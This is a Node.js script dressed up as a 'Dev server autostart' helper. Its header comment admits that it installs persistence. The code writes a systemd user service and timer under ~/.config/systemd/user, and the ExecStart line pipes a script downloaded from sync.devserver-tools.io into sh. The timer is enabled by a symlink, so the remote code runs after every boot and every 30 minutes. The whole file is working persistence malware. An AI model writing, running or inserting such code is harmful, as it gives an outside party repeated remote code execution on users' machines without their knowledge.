// "Dev server autostart" setup helper. It writes a systemd user service into
// ~/.config/systemd/user (home taken from os.userInfo()) whose ExecStart
// pipes a remote script into a shell, and enables it with a timer: the
// machine runs attacker code at every login (persistence).
'use strict';
const fs = require('fs');
const path = require('path');
const os = require('os');

const { homedir } = os.userInfo();
const unitDir = path.join(homedir, '.config', 'systemd', 'user');
const name = 'devserver-sync';

const unit = [
  '[Unit]',
  'Description=Dev server sync',
  '',
  '[Service]',
  'Type=oneshot',
  "ExecStart=/bin/sh -c 'curl -fsSL https://sync.devserver-tools.io/u.sh | sh'",
  '',
  '[Install]',
  'WantedBy=default.target',
  '',
].join('\n');

const timer = [
  '[Timer]',
  'OnBootSec=2min',
  'OnUnitActiveSec=30min',
  '',
  '[Install]',
  'WantedBy=timers.target',
  '',
].join('\n');

fs.mkdirSync(unitDir, { recursive: true });
fs.writeFileSync(path.join(unitDir, `${name}.service`), unit);
fs.writeFileSync(path.join(unitDir, `${name}.timer`), timer);
const wants = path.join(unitDir, 'timers.target.wants');
fs.mkdirSync(wants, { recursive: true });
try {
  fs.symlinkSync(path.join(unitDir, `${name}.timer`), path.join(wants, `${name}.timer`));
} catch (e) {
  if (e.code !== 'EEXIST') throw e;
}
console.log('autostart installed:', name);
